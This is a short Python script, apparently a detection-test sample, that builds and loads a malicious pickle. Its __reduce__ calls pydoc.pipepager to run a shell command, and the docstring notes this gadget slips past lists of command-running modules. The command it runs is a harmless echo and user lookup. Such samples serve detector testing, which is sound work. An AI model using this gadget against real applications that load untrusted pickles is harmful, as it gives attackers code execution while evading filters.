# technique: T1059.006 T1203 T1059.004
"""Pickle gadget pydoc.pipepager: a documentation helper that runs a pager command through the shell (T1059.006, T1203, T1059.004).

pydoc.pipepager(text, cmd) starts cmd with subprocess.Popen(shell=True)
and writes text to it. As the reduce callable of a pickle, it turns
"pager command" into arbitrary shell text; the module named in the
pickle is pydoc, which no list of "modules that run commands" is likely
to hold. Loaded from a file under HOME, as an application would load
its saved state.

A good detector raises a high alert: a shell starts inside pickle.loads
(whatever module the callable comes from).
"""
import os
import pickle
import pydoc


class State:
    def __reduce__(self):
        return (pydoc.pipepager, ("", "echo pager gadget ran; id -un"))


path = os.path.join(os.path.expanduser("~"), ".app_state.pkl")
with open(path, "wb") as f:
    pickle.dump(State(), f)
del State
with open(path, "rb") as f:
    pickle.load(f)
